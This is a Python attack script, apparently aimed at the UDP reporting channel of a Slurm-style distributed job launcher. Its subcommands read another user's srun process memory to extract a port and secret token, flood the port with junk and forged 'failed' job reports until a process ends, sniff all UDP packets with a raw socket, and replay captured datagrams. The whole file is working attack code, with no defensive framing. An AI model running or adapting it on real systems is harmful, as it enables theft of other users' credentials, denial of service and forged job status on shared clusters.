#!/usr/bin/python3
"""attacks.py channel USER | flood ADDRESS PORT PROCESS | record FILE SECONDS | send ADDRESS PORT TIMES < DATAGRAMS

channel: port and token in the memory of that user's srun. flood: of datagrams without a code, as fast as it goes, until that
process has ended. record: all datagrams that this machine sends or gets, one in a line: port, hexadecimal digits. send: such
digits, so many times each.
"""
import pathlib
import re
import socket
import subprocess
import sys
import time

VARIABLE = re.compile(rb"SLURM_AMLDIST_REPORT=2;port=(\d+);token=([0-9a-f]{32})")


def channel(user: str) -> None:
    for pid in subprocess.run(["pgrep", "-u", user, "-x", "srun"], capture_output=True, text=True).stdout.split():
        for area in pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines():
            if not area.endswith("[heap]"):
                continue
            first, last = (int(part, 16) for part in area.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                memory.seek(first)
                if found := VARIABLE.search(memory.read(last - first)):
                    print(found[1].decode(), found[2].decode())
                    return
    sys.exit("no srun with a token")


def flood(address: str, port: str, process: str) -> None:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams = [b"x" * 300, b"aml-dist;2;" + b"0123456789abcdef;" * 3 + b"failed;0;0;9;1;node1"]
    step = pathlib.Path("/proc", process)
    sent = 0
    while step.exists():
        for _ in range(200):
            udp.sendto(datagrams[sent % 2], (address, int(port, 0)))
            sent += 1
    print(sent)


def record(file: str, seconds: str) -> None:
    every_protocol, seen = 3, set()
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(every_protocol))
    packets.settimeout(0.2)
    end = time.monotonic() + float(seconds)
    with open(file, "w", buffering=1) as out:
        print("records", flush=True)
        while time.monotonic() < end:
            try:
                packet = packets.recv(65535)
            except TimeoutError:  # to look at the clock again
                continue
            if len(packet) > 28 and packet[0] >> 4 == 4 and packet[9] == socket.IPPROTO_UDP:
                udp = packet[4 * (packet[0] & 15):]
                line = f"{int.from_bytes(udp[2:4], 'big')} {udp[8:int.from_bytes(udp[4:6], 'big')].hex()}\n"
                if line not in seen:  # a packet to this very machine is seen twice
                    seen.add(line)
                    out.write(line)


def send(address: str, port: str, times: str) -> None:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for line in sys.stdin.read().split():
        for _ in range(int(times)):
            udp.sendto(bytes.fromhex(line), (address, int(port, 0)))


{"channel": channel, "flood": flood, "record": record, "send": send}[sys.argv[1]](*sys.argv[2:])
